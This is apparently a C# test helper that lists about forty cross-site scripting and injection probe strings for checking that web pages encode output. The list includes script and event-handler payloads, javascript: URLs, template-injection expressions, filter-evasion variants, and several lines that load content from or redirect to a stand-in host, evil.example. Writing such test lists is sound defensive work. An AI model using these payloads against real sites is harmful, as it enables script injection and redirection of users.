namespace CreditBridge.Tests.Web.Support;

/// <summary>Texts that a page which forgot to encode would run.</summary>
internal static class Attacks
{
    public static IReadOnlyList<string> All { get; } =
    [
        "<script>alert(1)</script>", "</textarea><script>alert(2)</script>", "<img src=x onerror=alert(3)>", "<svg onload=alert(4)>", "<svg><script>alert(5)</script></svg>",
        "\"><script>alert(6)</script>", "'><img src=x onerror=alert(7)>", "<body onload=alert(8)>", "<iframe src=javascript:alert(9)></iframe>", "<a href=\"javascript:alert(10)\">x</a>",
        "<input autofocus onfocus=alert(11)>", "<details open ontoggle=alert(12)>", "<video><source onerror=alert(13)></video>", "<audio src=x onerror=alert(14)>", "<marquee onstart=alert(15)>",
        "<object data=javascript:alert(16)>", "<embed src=javascript:alert(17)>", "<form action=javascript:alert(18)><button>x</button></form>", "<math href=javascript:alert(19)>x</math>", "<base href=https://evil.example/>",
        "<link rel=stylesheet href=https://evil.example/x.css>", "<style>@import 'https://evil.example/x.css'</style>", "<meta http-equiv=refresh content='0;url=https://evil.example'>", "{{constructor.constructor('alert(24)')()}}", "${alert(25)}",
        "<%= 7*7 %>", "@(7*7)", "&lt;script&gt;alert(28)&lt;/script&gt;", "%3Cscript%3Ealert(29)%3C/script%3E", "<scr<script>ipt>alert(30)</scr</script>ipt>",
        "<IMG SRC=JaVaScRiPt:alert(31)>", "<div style=background:url(javascript:alert(32))>", "<template><img src=x onerror=alert(33)></template>", "<noscript><p title=\"</noscript><img src=x onerror=alert(34)>\">", "<!--<img src=\"--><img src=x onerror=alert(35)//\">",
        "<x onclick=alert(36) tabindex=1>x</x>", "javascript:alert(37)", "data:text/html,<script>alert(38)</script>", "=HYPERLINK(\"https://evil.example\",\"x\")", "<button hx-get=https://evil.example hx-trigger=load>x</button>",
    ];
}
